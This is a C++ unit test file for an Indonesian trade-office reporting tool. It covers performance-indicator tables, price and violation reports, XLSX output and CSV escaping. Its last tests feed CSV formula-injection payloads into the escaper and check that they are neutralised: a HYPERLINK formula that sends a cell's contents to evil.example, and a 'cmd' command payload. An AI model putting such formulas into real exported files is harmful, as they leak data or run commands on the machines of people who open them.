// Golden files: the CSV and JSON forms of an IKK table are pinned byte for byte. To accept a
// deliberate change, rerun with PANTAU_UPDATE_GOLDEN=1 and review the diff.
#include "common/report/tables.h"

#include <google/protobuf/text_format.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>

#include "absl/strings/str_split.h"
#include "common/report/xlsx.h"
#include "common/text.h"
#include "tests/testing/process.h"
#include "tests/testing/test_support.h"

namespace pantau::report {
namespace {

using ::pantau::testing::ExpectGolden;

v1::GetIndicatorTableResponse Table() {
  v1::GetIndicatorTableResponse t;
  t.set_period("2026");
  t.set_first_day("2026-01-01");
  t.set_last_day("2026-12-31");
  auto value = [](int64_t n, int64_t d, const char* text) {
    v1::ExactValue v;
    v.set_numerator(n);
    v.set_denominator(d);
    v.set_text(text);
    return v;
  };
  auto* r20 = t.add_rows();
  auto* i20 = r20->mutable_indicator();
  i20->set_number(20);
  i20->set_tujuan("Peningkatan kualitas Pasar Daerah dan Pasar Desa");
  i20->set_sasaran("Meningkatnya Sarana distribusi Perdagangan");
  i20->set_name("Jumlah kebutuhan bahan pokok yang dimonitor");
  i20->set_bidang("Bidang Perdagangan");
  i20->set_formula("Jumlah kebutuhan bahan pokok");
  i20->set_data_source("Daftar harga rata-rata bahan pokok");
  *r20->mutable_target() = value(20000, 1000, "20");
  *r20->mutable_realisasi() = value(18, 1, "18");
  *r20->mutable_capaian() = value(1800000, 20000, "90.00");
  r20->set_source("otomatis");
  auto* r1 = t.add_rows();
  auto* i1 = r1->mutable_indicator();
  i1->set_number(1);
  i1->set_tujuan("Mengembangkan peran koperasi, UMKM sebagai pelopor pemasar produk olahan dan kerajinan");
  i1->set_name("Jumlah peserta rapat \"koordinasi\"");
  r1->set_source("belum diisi");
  auto* r24 = t.add_rows();
  r24->mutable_indicator()->set_number(24);
  r24->mutable_indicator()->set_name("Prosentase alat UTTP yang ditera/tera ulang");
  *r24->mutable_realisasi() = value(21500, 247, "87.04");
  (*r24->mutable_breakdown())["ditera"] = 215;
  (*r24->mutable_breakdown())["potensi"] = 247;
  r24->set_source("otomatis");
  return t;
}

TEST(ReportsTest, IkkCsvMatchesTheGoldenFile) { ExpectGolden("ikk_2026.csv", IkkCsv(Table())); }
TEST(ReportsTest, IkkJsonMatchesTheGoldenFile) { ExpectGolden("ikk_2026.json", IkkJson(Table())); }

TEST(ReportsTest, TheTerminalTableShowsMissingValuesAsDashes) {
  const std::string text = IkkTable(Table());
  EXPECT_NE(text.find("Periode 2026 (2026-01-01 s.d. 2026-12-31)"), std::string::npos);
  EXPECT_NE(text.find("belum diisi"), std::string::npos);
  EXPECT_NE(text.find("90,00"), std::string::npos) << text;  // Indonesian notation
  // Row 1 has no target, realisation or capaian: three dashes, never 0.
  const size_t row_1 = text.find("\n 1  Jumlah peserta");
  ASSERT_NE(row_1, std::string::npos) << text;
  const auto line = text.substr(row_1 + 1);
  EXPECT_EQ(line.substr(0, line.find('\n')).find(" 0 "), std::string::npos) << text;
  EXPECT_NE(line.substr(0, line.find('\n')).find("-          -          -"), std::string::npos) << text;
}

// Every line of `text` after its title fits `width` characters (code points).
void ExpectFits(const std::string& text, size_t width) {
  for (const std::string& line : std::vector<std::string>(absl::StrSplit(text, '\n'))) {
    EXPECT_LE(common::Utf8Length(line), width) << line << "\n" << text;
  }
}

TEST(ReportsTest, TablesWrapToTheTerminalNeverCuttingAWordAndWideKeepsOneLinePerRow) {
  ::pantau::report::Table t;
  t.title = "UTTP";
  t.columns = {{"alat", "Alat", ::pantau::report::Table::Kind::kText},
               {"pemilik", "Pemilik", ::pantau::report::Table::Kind::kText},
               {"harga", "Harga", ::pantau::report::Table::Kind::kRupiah},
               {"persen", "Capaian (%)", ::pantau::report::Table::Kind::kPercent}};
  t.rows = {{"UTTP-CONTOH-0001", "Toko Sembako Haji Abdul Rahman Marabahan Ujung", "13133.33", "87.04"},
            {"UTTP-CONTOH-0002", "Pedagang contoh 2", "1250000", ""}};
  const std::string narrow = TableText(t, {.width = 50, .wide = false});
  ExpectFits(narrow, 50);
  // Identifiers whole, on every line they appear; the owner's words wrapped, none cut.
  EXPECT_NE(narrow.find("UTTP-CONTOH-0001"), std::string::npos) << narrow;
  EXPECT_NE(narrow.find("UTTP-CONTOH-0002"), std::string::npos) << narrow;
  EXPECT_EQ(narrow.find("…"), std::string::npos) << narrow;
  for (const char* word : {"Toko", "Sembako", "Haji", "Abdul", "Rahman", "Marabahan", "Ujung"}) {
    EXPECT_NE(narrow.find(word), std::string::npos) << word << "\n" << narrow;
  }
  EXPECT_GT(std::count(narrow.begin(), narrow.end(), '\n'), 4) << narrow;  // a row took two lines or more
  // Rupiah and percentages as Indonesians write them, right-aligned; a missing value is "-".
  EXPECT_NE(narrow.find("Rp 13.133,33"), std::string::npos) << narrow;
  EXPECT_NE(narrow.find("Rp 1.250.000"), std::string::npos) << narrow;
  EXPECT_NE(narrow.find("87,04"), std::string::npos) << narrow;
  const std::string wide = TableText(t, {.width = 50, .wide = true});
  EXPECT_EQ(std::count(wide.begin(), wide.end(), '\n'), 4) << wide;  // title, header, two rows
  EXPECT_NE(wide.find("Toko Sembako Haji Abdul Rahman Marabahan Ujung"), std::string::npos) << wide;
  // Too narrow for the longest words: wider than asked, still nothing cut.
  const std::string tiny = TableText(t, {.width = 20, .wide = false});
  EXPECT_NE(tiny.find("UTTP-CONTOH-0001"), std::string::npos) << tiny;
  EXPECT_NE(tiny.find("Rp 13.133,33"), std::string::npos) << tiny;
  // The IKK table at 80 columns: every indicator's name whole across its lines.
  ExpectFits(IkkTable(Table(), {.width = 80, .wide = false}), 80);
  // A column empty in every row is left out, but the IKK table keeps the dinas's columns.
  ::pantau::report::Table empty = t;
  for (auto& row : empty.rows) row[3] = "";
  EXPECT_EQ(TableText(empty).find("Capaian"), std::string::npos) << TableText(empty);
  v1::GetIndicatorTableResponse no_targets = Table();
  for (auto& row : *no_targets.mutable_rows()) row.clear_target(), row.clear_capaian();
  EXPECT_NE(IkkTable(no_targets).find("Target"), std::string::npos) << IkkTable(no_targets);
  EXPECT_EQ(IndonesianNumber("-1250"), "-1.250");
  EXPECT_EQ(IndonesianNumber("123"), "123");
  EXPECT_EQ(IndonesianNumber("1234567.5"), "1.234.567,5");
  EXPECT_EQ(IndonesianNumber("2026-11-03"), "2026-11-03");
}

TEST(ReportsTest, NamesStandInForCodesFromTheReferenceData) {
  common::ReferenceCatalog catalog;
  v1::ReferenceEntity market, commodity;
  market.mutable_market()->set_code("pasar_marabahan");
  market.mutable_market()->set_name("Pasar Marabahan");
  commodity.mutable_commodity()->set_code("beras_medium");
  commodity.mutable_commodity()->set_name("Beras Medium");
  catalog.Upsert(market);
  catalog.Upsert(commodity);
  v1::GetCoverageResponse c;
  auto* row = c.add_rows();
  row->set_market_code("pasar_marabahan");
  row->set_commodity_code("beras_medium");
  auto* unknown = c.add_rows();
  unknown->set_market_code("pasar_baru");
  unknown->set_commodity_code("beras_medium");
  ::pantau::report::Table t = CoverageTable(c);
  ShowNames(t, catalog);
  EXPECT_EQ(t.rows[0][0], "Pasar Marabahan");
  EXPECT_EQ(t.rows[0][1], "Beras Medium");
  EXPECT_EQ(t.rows[1][0], "pasar_baru");  // not in the reference data: the code stays
}

v1::ExactValue Value(int64_t n, int64_t d, const char* text) {
  v1::ExactValue v;
  v.set_numerator(n);
  v.set_denominator(d);
  v.set_text(text);
  return v;
}

v1::ListViolationsResponse Violations() {
  v1::ListViolationsResponse v;
  v.set_from("2026-11-01");
  v.set_to("2026-11-30");
  v.set_as_of("2026-11-28");
  v.set_open(0);
  v.set_overdue(1);
  v.set_closed(1);
  auto* a = v.add_rows();
  a->set_audit_record_id("01KAUDIT0000000000000000A1");
  a->set_audit_day("2026-11-02");
  a->set_outlet_code("pkl_1");
  a->set_outlet_name("Pangkalan \"Maju\", Marabahan");
  a->set_outlet_kind("lpg_pangkalan");
  a->set_kecamatan_code("marabahan");
  a->set_finding_code("harga_di_atas_het");
  a->set_inspector("siti");
  a->set_actions(2);
  a->set_last_action_code("teguran_tertulis");
  a->set_last_action_date("2026-11-12");
  a->set_due_date("2026-11-26");
  a->set_status("selesai");
  a->set_finding_reason("harga_jual: Rp 19.000 is above the HET of Rp 18.500 (Kepgub Kalsel 188.44/0385/KUM/2022) in force on 2026-11-02");
  a->add_history("2026-11-03 teguran_lisan by Dinas, due 2026-11-10, open (record 01KF1)");
  a->add_history("2026-11-12 teguran_tertulis by Dinas, due 2026-11-26, closed (record 01KF2)");
  auto* b = v.add_rows();
  b->set_audit_record_id("01KAUDIT0000000000000000A2");
  b->set_audit_day("2026-11-09");
  b->set_outlet_code("kios_2");
  b->set_outlet_kind("pupuk_kios");
  b->set_finding_code("stok_tidak_sesuai");
  b->set_inspector("siti");
  b->set_due_date("2026-11-23");
  b->set_status("terlambat");
  b->set_days_overdue(5);
  return v;
}

v1::GetPriceStabilityResponse Stability() {
  v1::GetPriceStabilityResponse s;
  s.set_from("2026-01-01");
  s.set_to("2026-12-31");
  s.set_by("month");
  *s.mutable_mean_kv_percent() = Value(713, 200, "3.57");
  s.set_commodities_with_kv(2);
  auto* r = s.add_rows();
  r->set_commodity_code("beras_medium");
  r->set_commodity_name("Beras Medium");
  r->set_unit("kg");
  for (auto [p, m] : {std::pair{"2026-01", 10400}, {"2026-02", 10400}, {"2026-03", 10967}}) {
    r->add_periods(p);
    r->add_period_means_rupiah(m);
  }
  *r->mutable_kv_percent() = Value(309, 100, "3.09");
  r->add_markets("pasar_a");
  r->add_market_means_rupiah(10300);
  r->add_markets("pasar_b");
  r->add_market_means_rupiah(11100);
  *r->mutable_disparity_kv_percent() = Value(529, 100, "5.29");
  r->set_cheapest_market("pasar_a");
  r->set_dearest_market("pasar_b");
  r->set_gap_rupiah(800);
  *r->mutable_gap_percent() = Value(80000, 10300, "7.77");
  auto* m = s.add_rows();
  m->set_commodity_code("minyakita");
  m->set_commodity_name("MinyaKita");
  m->set_unit("liter");
  m->add_periods("2026-03");
  m->add_period_means_rupiah(15700);
  m->add_markets("pasar_a");
  m->add_market_means_rupiah(15700);
  m->set_cheapest_market("pasar_a");
  m->set_dearest_market("pasar_a");
  return s;
}

template <typename Message>
Message FromText(const std::string& text) {
  Message m;
  EXPECT_TRUE(google::protobuf::TextFormat::ParseFromString(text, &m)) << text;
  return m;
}

// Every report's JSON is ResponseJson of its answer (one convention on the CLI and the HTTP API):
// proto field names, zeros printed, 64-bit integers as strings, absent values left out. Pinned
// per report.
TEST(ReportsTest, EveryReportsJsonMatchesItsGoldenFile) {
  ExpectGolden("violations_2026-11.json", ResponseJson(Violations()));
  ExpectGolden("prices_2026-11.json", PriceJson(FromText<v1::GetPriceStatisticsResponse>(R"(
      commodity_code: "beras_medium" commodity_name: "Beras Medium" unit: "kg"
      points { market_code: "pasar_marabahan" period: "2026-11-24" first_day: "2026-11-24" last_day: "2026-11-24"
               samples: 3 traders: 2 mean_rupiah { numerator: 39400 denominator: 3 text: "13133.33" }
               median_rupiah { numerator: 13100 denominator: 1 text: "13100" } min_rupiah: 13000 max_rupiah: 13300
               reference_rupiah: 13100 reference_kind: "HET" reference_regulation: "Perbadan 5/2024"
               above_reference_percent { numerator: 100 denominator: 393 text: "0.25" } }
      points { market_code: "pasar_marabahan" period: "2026-11-25" first_day: "2026-11-25" last_day: "2026-11-25"
               samples: 1 traders: 0 mean_rupiah { numerator: 13500 denominator: 1 text: "13500" }
               median_rupiah { numerator: 13500 denominator: 1 text: "13500" } min_rupiah: 13500 max_rupiah: 13500
               previous_period: "2026-11-24" change_rupiah { numerator: 1100 denominator: 3 text: "366.67" }
               change_percent { numerator: 27500 denominator: 9850 text: "2.79" } })")));
  ExpectGolden("coverage_2026-11.json", ResponseJson(FromText<v1::GetCoverageResponse>(R"(
      from: "2026-11-01" to: "2026-11-30" weekdays: "selasa" scheduled_days: "2026-11-24"
      rows { market_code: "pasar_marabahan" commodity_code: "beras_medium" scheduled_days: 1 covered_days: 0
             covered_percent { numerator: 0 denominator: 1 text: "0.00" } missing_days: "2026-11-24" }
      markets { market_code: "pasar_marabahan" market_name: "Pasar Marabahan" scheduled: 1 covered: 0 }
      scheduled: 1 covered: 0 covered_percent { numerator: 0 denominator: 1 text: "0.00" })")));
  ExpectGolden("uttp_due_2026-11-30.json", ResponseJson(FromText<v1::ListUttpDueResponse>(R"(
      as_of: "2026-11-30" within_days: 30
      rows { instrument_id: "UTTP-1" type_code: "timbangan_meja" type_name: "Timbangan meja" owner: "Toko A"
             market_code: "pasar_marabahan" kecamatan_code: "marabahan" last_sah_day: "2025-11-01"
             next_due: "2026-11-01" status: "terlambat" days: 29 }
      overdue: 1 due_soon: 0 registry: 1)")));
}

TEST(ReportsTest, ViolationsCsvMatchesTheGoldenFile) {
  ExpectGolden("violations_2026-11.csv", TableCsv(ViolationsTable(Violations())));
}
// The audits behind row 21: one row per audit, findings joined, photos counted; a formula in an
// outlet's name stays text.
TEST(ReportsTest, AuditsCsvMatchesTheGoldenFile) {
  const auto audits = FromText<v1::ListAuditsResponse>(R"(
      from: "2026-11-01" to: "2026-11-30" audits: 2 outlets: 2 with_findings: 1
      rows { record_id: "01KAUDIT0000000000000000A1" day: "2026-11-02" outlet_code: "pkl_1"
             outlet_name: "=Pangkalan Maju" outlet_kind: "lpg_pangkalan" kecamatan_code: "marabahan"
             inspector: "siti" checklist_applied: "lpg_pangkalan 2026-1" findings: "harga_di_atas_het"
             findings: "segel_rusak" answers: 14 not_checked: 1 photo_sha256s: "ab" }
      rows { record_id: "01KAUDIT0000000000000000A2" day: "2026-11-09" outlet_code: "kios_2"
             outlet_kind: "pupuk_kios" inspector: "budi" answers: 0 })");
  ExpectGolden("audits_2026-11.csv", TableCsv(AuditsTable(audits)));
  ExpectGolden("audits_2026-11.json", ResponseJson(audits));
}

TEST(ReportsTest, StabilityCsvAndJsonMatchTheGoldenFiles) {
  ExpectGolden("stability_2026.csv", TableCsv(PriceStabilityTable(Stability())));
  ExpectGolden("stability_2026.json", ResponseJson(Stability()));
}

TEST(ReportsTest, TablesShowMissingValuesAsDashesOnATerminal) {
  const std::string text = TableText(PriceStabilityTable(Stability()));
  EXPECT_NE(text.find("Rata-rata koefisien variasi: 3.57 % (2 komoditas)"), std::string::npos) << text;
  const std::string minyak = text.substr(text.find("MinyaKita"));
  const std::string line = minyak.substr(0, minyak.find('\n'));
  // One month: no KV (a dash), never 0.00.
  EXPECT_EQ(line.find("0.00"), std::string::npos) << line;
  EXPECT_NE(line.find(" - "), std::string::npos) << line;
}

// Every non-empty cell of the workbook as read by openpyxl: "A1" -> "n:20", "s:text" or
// "d:2026-11-03"; merged
// ranges under "merged", the frozen panes under "freeze", the filter under "filter"; with `formats`,
// each number or date cell's format under "format:D6".
std::map<std::string, std::string> ReadCells(const std::string& path, bool formats = false) {
  std::vector<std::string> command = {"/usr/bin/python3", std::string(PANTAU_SOURCE_DIR) + "/tests/tools/xlsx_cells.py"};
  if (formats) command.push_back("--formats");
  command.push_back(path);
  auto result = pantau::testing::RunCommand(command);
  EXPECT_EQ(result.exit_code, 0) << result.err;
  std::map<std::string, std::string> cells;
  const std::vector<std::string> lines = absl::StrSplit(result.out, '\n', absl::SkipEmpty());
  for (const std::string& line : lines) {
    const std::vector<std::string> parts = absl::StrSplit(line, '\t');
    const std::string where = parts[0].substr(parts[0].find('!') + 1);
    if (where == "merged") {
      cells["merged"] += (cells["merged"].empty() ? "" : " ") + parts[1];
    } else if (where == "freeze" || where == "filter") {
      cells[where] = parts[1];
    } else if (where == "format") {
      cells["format:" + parts[1]] = parts[2];
    } else {
      cells[where] = parts[1] + ":" + parts[2];
    }
  }
  return cells;
}

class XlsxTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() / ("pantau-xlsx-" + std::to_string(getpid()));
    std::filesystem::create_directories(dir_);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  std::filesystem::path dir_;
};

TEST_F(XlsxTest, TheIkkWorkbookReadsBackCellByCell) {
  Signatory signatory;
  // The agency, the place and the position come from the deployment's row.
  v1::Deployment deployment;
  deployment.set_agency("Dinas Koperasi, Perindustrian dan Perdagangan Kabupaten Barito Kuala");
  deployment.set_seat("Marabahan");
  ApplyDeployment(signatory, &deployment);
  signatory.date = "31 Desember 2026";
  signatory.name = "H. CONTOH, S.E.";
  signatory.rank = "Pembina Tingkat I";
  signatory.nip = "19700101 199003 1 001";
  const std::string path = (dir_ / "ikk.xlsx").string();
  ASSERT_TRUE(WriteIkkXlsx(Table(), signatory, path).ok());
  EXPECT_FALSE(std::filesystem::exists(path + ".tmp"));
  const auto cells = ReadCells(path);
  const std::map<std::string, std::string> expected = {
      {"A1", "s:TABEL INDIKATOR KINERJA KEGIATAN (IKK)"},
      {"A2", "s:Dinas Koperasi, Perindustrian dan Perdagangan Kabupaten Barito Kuala"},
      {"A3", "s:Periode 2026 (2026-01-01 s.d. 2026-12-31)"},
      {"A5", "s:No"}, {"B5", "s:Tujuan"}, {"C5", "s:Sasaran"}, {"D5", "s:Indikator Kinerja Kegiatan"},
      {"E5", "s:Formulasi / Cara Pengukuran"}, {"F5", "s:Sumber Data"}, {"G5", "s:Target"},
      {"H5", "s:Realisasi"}, {"I5", "s:Capaian (%)"}, {"J5", "s:Keterangan"},
      // Row 20: numbers, as numbers.
      {"A6", "n:20"}, {"B6", "s:Peningkatan kualitas Pasar Daerah dan Pasar Desa"},
      {"C6", "s:Meningkatnya Sarana distribusi Perdagangan"},
      {"D6", "s:Jumlah kebutuhan bahan pokok yang dimonitor"}, {"E6", "s:Jumlah kebutuhan bahan pokok"},
      {"F6", "s:Daftar harga rata-rata bahan pokok"}, {"G6", "n:20"}, {"H6", "n:18"}, {"I6", "n:90"},
      {"J6", "s:otomatis"},
      // Row 1: nothing entered, so no target, realisasi or capaian cell at all (never 0).
      {"A7", "n:1"}, {"B7", "s:Mengembangkan peran koperasi, UMKM sebagai pelopor pemasar produk olahan dan kerajinan"},
      {"D7", "s:Jumlah peserta rapat \"koordinasi\""}, {"J7", "s:belum diisi"},
      // Row 24: the exact percentage as sent, 87.04.
      {"A8", "n:24"}, {"D8", "s:Prosentase alat UTTP yang ditera/tera ulang"}, {"H8", "n:87.04"},
      {"J8", "s:otomatis"},
      // The signatory block, two rows under the table.
      {"G11", "s:Marabahan, 31 Desember 2026"},
      {"G12", "s:Kepala Dinas Koperasi, Perindustrian dan Perdagangan Kabupaten Barito Kuala"},
      {"G16", "s:H. CONTOH, S.E."}, {"G17", "s:Pembina Tingkat I"}, {"G18", "s:NIP. 19700101 199003 1 001"},
      {"merged", "A1:J1 A2:J2 A3:J3 G11:J11 G12:J12 G16:J16 G17:J17 G18:J18"},
      // The header row stays in view and filters the rows.
      {"freeze", "A6"}, {"filter", "A5:J8"},
  };
  EXPECT_EQ(cells, expected);
}

TEST_F(XlsxTest, RowsSharingTujuanAndSasaranAreMergedLikeTheDinasTable) {
  v1::GetIndicatorTableResponse t;
  t.set_period("2026");
  for (int n : {20, 21, 22}) {
    auto* i = t.add_rows()->mutable_indicator();
    i->set_number(n);
    i->set_tujuan("Tujuan perdagangan");
    i->set_sasaran(n == 22 ? "Sasaran B" : "Sasaran A");
  }
  const std::string path = (dir_ / "merge.xlsx").string();
  ASSERT_TRUE(WriteIkkXlsx(t, Signatory{}, path).ok());
  const auto cells = ReadCells(path);
  EXPECT_NE(cells.at("merged").find("B6:B8"), std::string::npos) << cells.at("merged");
  EXPECT_NE(cells.at("merged").find("C6:C7"), std::string::npos) << cells.at("merged");
  EXPECT_EQ(cells.at("B6"), "s:Tujuan perdagangan");
  EXPECT_EQ(cells.count("B7"), 0u);
  EXPECT_EQ(cells.at("C8"), "s:Sasaran B");
  // No name given: a line to write it on.
  EXPECT_EQ(cells.at("G16"), "s:(..............................)");
}

TEST_F(XlsxTest, AReportTableKeepsNumbersAsNumbersAndMissingValuesEmpty) {
  const std::string path = (dir_ / "stability.xlsx").string();
  ASSERT_TRUE(WriteTableXlsx(PriceStabilityTable(Stability()), Signatory{}, path).ok());
  const auto cells = ReadCells(path);
  EXPECT_EQ(cells.at("A1"), "s:Stabilitas harga bahan pokok 2026-01-01 s.d. 2026-12-31 (deret per bulan)");
  EXPECT_EQ(cells.at("A3"), "s:Rata-rata koefisien variasi: 3.57 % (2 komoditas)");
  EXPECT_EQ(cells.at("A5"), "s:Komoditas");
  EXPECT_EQ(cells.at("E5"), "s:KV (%)");
  EXPECT_EQ(cells.at("A6"), "s:Beras Medium");
  EXPECT_EQ(cells.at("D6"), "n:10589");  // the mean of the monthly means, rounded half up
  EXPECT_EQ(cells.at("E6"), "n:3.09");
  EXPECT_EQ(cells.at("J6"), "n:7.77");
  EXPECT_EQ(cells.at("K6"), "n:5.29");
  EXPECT_EQ(cells.at("A7"), "s:MinyaKita");
  EXPECT_EQ(cells.count("E7"), 0u);  // no KV from one month: an empty cell, not 0
  EXPECT_EQ(cells.count("K7"), 0u);
}

// The cell at `key`, or "(none)" listing what there is, so a miss says what was written.
std::string At(const std::map<std::string, std::string>& cells, const std::string& key) {
  auto it = cells.find(key);
  if (it != cells.end()) return it->second;
  std::string all;
  for (const auto& [k, v] : cells) all += k + "=" + v + " ";
  return "(none; the workbook has: " + all + ")";
}

TEST_F(XlsxTest, RupiahPercentagesAndDatesAreNumberFormatsAndTheHeaderIsFrozenAndFiltered) {
  const std::string prices = (dir_ / "prices.xlsx").string();
  ASSERT_TRUE(WriteTableXlsx(PriceStatisticsTable(FromText<v1::GetPriceStatisticsResponse>(R"(
      commodity_code: "beras_medium" commodity_name: "Beras Medium" unit: "kg"
      points { market_code: "pasar_marabahan" period: "2026-11-25" samples: 3 traders: 2
               mean_rupiah { numerator: 39400 denominator: 3 text: "13133.33" }
               median_rupiah { numerator: 13100 denominator: 1 text: "13100" } min_rupiah: 13000 max_rupiah: 13300
               previous_period: "2026-11-24" change_rupiah { numerator: 1100 denominator: 3 text: "366.67" }
               change_percent { numerator: 27500 denominator: 9850 text: "2.79" }
               reference_rupiah: 13100 reference_kind: "HET" })")),
                             Signatory{}, prices)
                  .ok());
  auto cells = ReadCells(prices, /*formats=*/true);
  // Row 4 is the header (title, agency, a blank row); the values are the exact numbers sent.
  EXPECT_EQ(At(cells, "E4"), "s:Rata-rata");
  EXPECT_EQ(At(cells, "E5"), "n:13133.33");
  EXPECT_EQ(At(cells, "format:E5"), "\"Rp \"#,##0.00");
  EXPECT_EQ(At(cells, "F5"), "n:13100");
  EXPECT_EQ(At(cells, "format:F5"), "\"Rp \"#,##0");
  EXPECT_EQ(At(cells, "L5"), "n:13100");  // the HET, in Rupiah
  EXPECT_EQ(At(cells, "format:L5"), "\"Rp \"#,##0");
  EXPECT_EQ(At(cells, "K5"), "n:2.79");
  EXPECT_EQ(At(cells, "format:K5"), "0.00\" %\"");
  EXPECT_EQ(At(cells, "C5"), "n:3");
  EXPECT_EQ(At(cells, "format:C5"), "#,##0");
  EXPECT_EQ(cells.count("N5"), 0u);  // nothing above the reference price was sent: empty, not 0
  EXPECT_EQ(At(cells, "freeze"), "A5");
  EXPECT_EQ(At(cells, "filter"), "A4:N5");

  const std::string violations = (dir_ / "violations.xlsx").string();
  ASSERT_TRUE(WriteTableXlsx(ViolationsTable(Violations()), Signatory{}, violations).ok());
  cells = ReadCells(violations, /*formats=*/true);
  // Dates are date cells (sortable and filterable as dates), shown as "3 Nov 2026".
  const v1::ListViolationsResponse listed = Violations();
  const v1::ViolationRow& first = listed.rows(0);
  EXPECT_EQ(At(cells, "A6"), "s:Audit");  // the header, under the title, the agency and two notes
  EXPECT_EQ(At(cells, "A7"), "d:" + first.audit_day());
  EXPECT_EQ(At(cells, "format:A7"), "d mmm yyyy");
  EXPECT_EQ(At(cells, "I7"), "d:" + first.due_date());
  EXPECT_EQ(At(cells, "freeze"), "A7");
  EXPECT_EQ(At(cells, "filter"), "A6:P" + std::to_string(6 + listed.rows_size()));
}

TEST_F(XlsxTest, AnUnwritablePathIsAnErrorAndLeavesNothing) {
  const std::string path = (dir_ / "no-such-folder" / "ikk.xlsx").string();
  const absl::Status status = WriteIkkXlsx(Table(), Signatory{}, path);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("no-such-folder/ikk.xlsx"), std::string_view::npos) << status.message();
  EXPECT_FALSE(std::filesystem::exists(path));
}

TEST(SignatoryTest, ReadsKnownKeysAndNamesAMisspeltOne) {
  auto s = ParseSignatory(R"({"name": "H. CONTOH", "nip": "1970", "place": "Marabahan"})", "ttd.json");
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(s->name, "H. CONTOH");
  EXPECT_EQ(s->position, "");  // left to the deployment
  v1::Deployment kota;
  kota.set_agency("Dinas Perdagangan Kota Contoh");
  kota.set_seat("Kota Contoh");
  ApplyDeployment(*s, &kota);
  EXPECT_EQ(s->place, "Marabahan");  // the file's own place stays
  EXPECT_EQ(s->agency, "Dinas Perdagangan Kota Contoh");
  EXPECT_EQ(s->position, "Kepala Dinas Perdagangan Kota Contoh");
  auto wrong = ParseSignatory(R"({"nama": "H. CONTOH"})", "ttd.json");
  ASSERT_FALSE(wrong.ok());
  EXPECT_NE(wrong.status().message().find("ttd.json: unknown key \"nama\""), std::string_view::npos);
  EXPECT_FALSE(ParseSignatory(R"({"nip": 1970})", "ttd.json").ok());
  EXPECT_FALSE(ParseSignatory("[", "ttd.json").ok());
  EXPECT_EQ(IndonesianDate(absl::CivilDay(2026, 8, 17)), "17 Agustus 2026");
}

TEST(CsvFieldTest, TextThatASpreadsheetWouldRunIsNeutralisedAndNumbersStayNumbers) {
  // OWASP CSV injection: = + - @ tab CR at the start.
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"");
  EXPECT_EQ(CsvField("+62 811"), "\"'+62 811\"");
  EXPECT_EQ(CsvField("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\"");
  EXPECT_EQ(CsvField("@SUM(A1:A2)"), "\"'@SUM(A1:A2)\"");
  EXPECT_EQ(CsvField("\t=1+1"), "\"'\t=1+1\"");
  EXPECT_EQ(CsvField("\r=1+1"), "\"'\r=1+1\"");
  // Numbers, including negative changes, are not touched; nor is ordinary text.
  EXPECT_EQ(CsvField("-1250"), "-1250");
  EXPECT_EQ(CsvField("-3.85"), "-3.85");
  EXPECT_EQ(CsvField("+12"), "+12");
  EXPECT_EQ(CsvField("13100"), "13100");
  EXPECT_EQ(CsvField("Toko Ani"), "Toko Ani");
  EXPECT_EQ(CsvField("a=b"), "a=b");
  EXPECT_EQ(CsvField(""), "");
  // Not numbers after all.
  EXPECT_EQ(CsvField("-"), "\"'-\"");
  EXPECT_EQ(CsvField("-1-1"), "\"'-1-1\"");
  EXPECT_EQ(CsvField("-1."), "\"'-1.\"");
}

TEST(CsvFieldTest, AHostileCellInAReportTableComesOutAsText) {
  report::Table table;
  table.columns = {{"sertifikat", "Sertifikat"}, {"selisih", "Selisih"}};
  table.rows = {{"=HYPERLINK(\"http://evil.example/\",\"Klik\")", "-2"}};
  const std::string csv = TableCsv(table);
  EXPECT_EQ(csv, "sertifikat,selisih\n\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Klik\"\")\",-2\n");
}

}  // namespace
}  // namespace pantau::report
